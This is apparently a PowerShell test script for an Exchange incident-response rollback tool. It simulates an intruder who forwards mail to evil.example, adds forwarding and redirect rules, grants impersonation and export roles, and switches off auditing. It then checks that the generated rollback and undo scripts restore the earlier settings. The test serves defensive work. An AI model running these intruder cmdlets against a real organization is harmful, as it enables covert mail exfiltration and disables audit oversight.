# settings.ps1 - forwarding, rules, roles and auditing taken back on the double. Prints "ok NAME" and
# "not ok NAME"; the exit status is the number of failures.
param([string]$Folder)
Set-StrictMode -Version Latest
Import-Module "$PSScriptRoot/Exchange.psm1", "$PSScriptRoot/Case.psm1" -Force -DisableNameChecking -Global
$script:Failed = 0

function Check([string]$Name, $Passed, [string]$Detail = '') {
    if ($Passed -is [bool] -and $Passed) { "ok $Name"; return }
    $script:Failed++
    "not ok $Name`: $Detail"
}
function Check-Same([string]$Name, [string]$Got, [string]$Want) { Check $Name ($Got -ceq $Want) ((Compare-State $Want $Got) -join '; ') }

# ---- a company, and an intruder who uses every family of settings ----
New-ExchangeWorld -Environment online -Organization contoso.example
foreach ($Name in 'Ann Lee', 'Bob Ray', 'Dee Fox', 'Eve Low') { Add-ExchangeRecipient -Name $Name -Address "$($Name.Split(' ')[0].ToLowerInvariant())@contoso.example" }
New-RoleGroup 'Organization Management' -Members bob@contoso.example
Set-Mailbox bob@contoso.example -ForwardingSmtpAddress 'smtp:old@partner.example'
Set-Mailbox eve@contoso.example -ForwardingAddress ann@contoso.example
Clear-ExchangeAudit
$Before = Get-StateNow
Write-Snapshot "$Folder/before"
Set-ExchangeActor 'dee@contoso.example' '203.0.113.9' 'f00d'
$Minute = 0
foreach ($Act in {
        Set-Mailbox ann@contoso.example -ForwardingSmtpAddress 'smtp:x@evil.example' -DeliverToMailboxAndForward $true }, {
        Set-Mailbox bob@contoso.example -ForwardingSmtpAddress 'smtp:x@evil.example' }, {
        Set-Mailbox dee@contoso.example -ForwardingAddress eve@contoso.example }, {
        Set-Mailbox eve@contoso.example -ForwardingAddress dee@contoso.example }, {
        New-InboxRule "Mov$([char]0xE9)" -Mailbox ann@contoso.example -ForwardTo x@evil.example -DeleteMessage $true }, {
        New-InboxRule '' -Mailbox bob@contoso.example -RedirectTo x@evil.example }, {
        New-TransportRule "O'Archive" -BlindCopyTo x@evil.example }, {
        Add-RoleGroupMember 'Organization Management' -Member eve@contoso.example }, {
        New-ManagementRoleAssignment -Name 'svc' -Role ApplicationImpersonation -User eve@contoso.example }, {
        New-ManagementRoleAssignment -Role 'Mailbox Import Export' -User eve@contoso.example }, {
        Set-MailboxAuditBypassAssociation eve@contoso.example -AuditBypassEnabled $true }, {
        Set-Mailbox ann@contoso.example -AuditEnabled $false }, {
        Set-OrganizationConfig -AuditDisabled $true }, {
        Set-AdminAuditLogConfig -UnifiedAuditLogIngestionEnabled $false }) {
    Set-ExchangeClock ([datetime]::new(2026, 3, 5, 9, $Minute++, 0))
    $null = & $Act
}
$After = Get-StateNow
$AfterText = Get-ExchangeWorldText
$null = [System.IO.Directory]::CreateDirectory("$Folder/evidence")
Write-Evidence "$Folder/evidence/ual.json" (Get-ExchangeAudit)
$Plan = New-Plan $Folder "$Folder/evidence" @(@{ folder = "$Folder/before"; time = '2026-03-04T00:00:00Z' }) online
$Ids = @($Plan.actions | ForEach-Object { $_.id })
$Rights = @($Plan.actions | ForEach-Object { $_.right })
Check 'each act is an action, or left alone with its reason' ($Ids.Count -eq 12 -and @($Plan.not_planned).Count -eq 2) "$Rights $(ConvertTo-ExchangeJson $Plan.not_planned)"
Check 'a rule without a name and an assignment without a name are by hand' (@($Plan.not_planned | Where-Object { $_.why -like '*has no name*' }).Count -eq 2)
Check 'auditing comes first, then the organization, then roles, then mailboxes' (("$($Rights -join ' ')" -replace 'AuditBypass|AuditConfig', 'A') -match '^A A A A TransportRule (Role|Impersonation) (Role|Impersonation) ') "$Rights"
Check 'auditing has no undo, and says why' (-not @($Plan.actions | Where-Object { $_.right -like 'Audit*' -and ($null -ne $_.undo -or -not $_.undo_why_not) }).Count)
Check 'no action removes a rule' (-not @($Plan.actions | Where-Object { $_.cmdlet -like 'Remove-*Rule' }).Count)
New-Scripts $Folder $Ids
$Scripts = "$Folder/scripts"
$Apply = @{ Apply = $true; Organization = 'contoso.example' }
# The intruder's rules stay, disabled; what is by hand stays too.
$Want = @($Before.Split("`n")) + "rule|ann@contoso.example|Mov$([char]0xE9)|False|x@evil.example|", 'rule|bob@contoso.example||True||x@evil.example',
    "transport|O'Archive|Disabled|x@evil.example", 'assignment|Mailbox Import Export-Eve Low|Mailbox Import Export|eve@contoso.example' -join "`n"

function Compare-Sets([string]$Name) { Check $Name (-not @(Compare-State $Want (Get-StateNow)).Count) (@(Compare-State $Want (Get-StateNow)) -join '; ') }

Set-ExchangeWorldText $AfterText
$R = Invoke-Script "$Scripts/rollback.ps1"
Check 'a dry run ends with 0' ($R.status -eq 0) $R.text
Check-Same 'a dry run changes nothing' (Get-StateNow) $After
$R = Invoke-Script "$Scripts/rollback.ps1" $Apply
Check 'rollback.ps1 -Apply ends with 0' ($R.status -eq 0) $R.text
Compare-Sets 'settings are back as before, rules disabled'
$R = Invoke-Script "$Scripts/verify.ps1"
Check 'verify.ps1 finds nothing open' ($R.status -eq 0) $R.text
$R = Invoke-Script "$Scripts/undo.ps1" $Apply
Check 'undo.ps1 -Apply ends with 0' ($R.status -eq 0) $R.text
$Audited = @(Compare-State $After (Get-StateNow))
Check 'undo.ps1 restores all but auditing, which stays on' (-not @($Audited | Where-Object { $_ -notmatch '^.(audit|audit-config|bypass)\|' }).Count -and $Audited.Count) ($Audited -join '; ')

# ---- somebody else changed it meanwhile ----
Set-ExchangeWorldText $AfterText
[System.IO.File]::Delete("$Scripts/result.json"); [System.IO.File]::Delete("$Scripts/result.json.new")
Set-Mailbox ann@contoso.example -ForwardingSmtpAddress 'smtp:new@partner.example'
$R = Invoke-Script "$Scripts/rollback.ps1" $Apply
Check 'a setting that somebody else changed is left, status 1' ($R.status -eq 1 -and (Get-StateNow).Contains('forwarding|ann@contoso.example||smtp:new@partner.example|')) $R.text

# ---- constrained language ----
Set-ExchangeWorldText $AfterText
[System.IO.File]::Delete("$Scripts/result.json"); [System.IO.File]::Delete("$Scripts/result.json.new")
$R = Invoke-Constrained "$Scripts/rollback.ps1" $Apply
Check 'constrained language: rollback.ps1 ends with 0' ($R.status -eq 0) "$($R.status) $($R.text)"
Compare-Sets 'constrained language: all is back'

# ---- without a snapshot forwarding is a question ----
$null = Invoke-Ungrant @('plan', "$Folder/out", '-o', "$Folder/blind.json")
$Blind = @((Read-Json "$Folder/blind.json").actions | Where-Object { $_.right -eq 'Forwarding' })
Check 'without a snapshot the forwarding before is unknown, and asked for' ($Blind.Count -eq 4 -and -not @($Blind | Where-Object { $_.baseline -ne 'unknown' -or -not $_.question }).Count)

# ---- what an intruder took away, or switched off, is given back ----
$Place = "$Folder/taken"
$null = [System.IO.Directory]::CreateDirectory("$Place/evidence")
New-ExchangeWorld -Environment online -Organization contoso.example
foreach ($Name in 'Ann Lee', 'Bob Ray', 'Dee Fox') { Add-ExchangeRecipient -Name $Name -Address "$($Name.Split(' ')[0].ToLowerInvariant())@contoso.example" }
New-RoleGroup 'Records Management'
Clear-ExchangeAudit
Set-ExchangeActor 'bob@contoso.example' '192.0.2.10' ''
$Minute = 0
foreach ($Act in {
        Set-Mailbox ann@contoso.example -ForwardingSmtpAddress 'smtp:desk@partner.example' }, {
        New-InboxRule 'Desk' -Mailbox ann@contoso.example -ForwardTo desk@partner.example }, {
        New-InboxRule 'Gone' -Mailbox ann@contoso.example -ForwardTo desk@partner.example }, {
        New-TransportRule 'Journal' -BlindCopyTo journal@partner.example }, {
        Add-RoleGroupMember 'Records Management' -Member ann@contoso.example }, {
        New-ManagementRoleAssignment -Name 'Backup' -Role ApplicationImpersonation -User ann@contoso.example }) {
    Set-ExchangeClock ([datetime]::new(2026, 3, 2, 9, $Minute++, 0))
    $null = & $Act
}
$Before = Get-StateNow
Set-ExchangeActor 'dee@contoso.example' '203.0.113.9' 'f00d'
foreach ($Act in {
        Set-Mailbox ann@contoso.example -ForwardingSmtpAddress $null }, {
        Disable-InboxRule 'Desk' -Mailbox ann@contoso.example -Confirm:$false }, {
        Remove-InboxRule 'Gone' -Mailbox ann@contoso.example -Confirm:$false }, {
        Disable-TransportRule 'Journal' -Confirm:$false }, {
        Remove-RoleGroupMember 'Records Management' -Member ann@contoso.example -Confirm:$false }, {
        Remove-ManagementRoleAssignment 'Backup' -Confirm:$false }) {
    Set-ExchangeClock ([datetime]::new(2026, 3, 5, 9, $Minute++, 0))
    $null = & $Act
}
$After = Get-StateNow
Write-Evidence "$Place/evidence/ual.json" (Get-ExchangeAudit)
$Plan = New-Plan $Place "$Place/evidence" @() online @('dee@contoso.example')
$Cmdlets = @($Plan.actions | ForEach-Object { $_.cmdlet })
Check 'each setting that was taken is given back by its own cmdlet' ("$($Cmdlets -join ' ')" -eq 'Enable-TransportRule Enable-InboxRule Set-Mailbox New-ManagementRoleAssignment Add-RoleGroupMember') "$Cmdlets $(ConvertTo-ExchangeJson $Plan.not_planned)"
Check 'nothing of it is a question: the log says what was there' (-not @($Plan.actions | Where-Object { $_.baseline -ne 'present' }).Count)
Check 'a rule that is gone is by hand, and the plan says who took it' (@($Plan.not_planned).Count -eq 1 -and $Plan.not_planned[0].scope -eq 'Gone' -and $Plan.not_planned[0].why -like 'taken away by dee@contoso.example *by hand*')
New-Scripts $Place @($Plan.actions | ForEach-Object { $_.id })
$R = Invoke-Script "$Place/scripts/rollback.ps1" $Apply
Check 'what was taken: rollback.ps1 -Apply ends with 0' ($R.status -eq 0) $R.text
Check-Same 'what was taken is there again' (Get-StateNow) ((@($Before.Split("`n")) | Where-Object { $_ -notlike 'rule|*|Gone|*' }) -join "`n")
$R = Invoke-Script "$Place/scripts/verify.ps1"
Check 'what was taken: verify.ps1 finds nothing open' ($R.status -eq 0) $R.text
$R = Invoke-Script "$Place/scripts/undo.ps1" $Apply
Check 'what was taken: undo.ps1 -Apply ends with 0' ($R.status -eq 0) $R.text
Check-Same 'what was taken: undo.ps1 restores the state before the rollback' (Get-StateNow) $After
exit $script:Failed
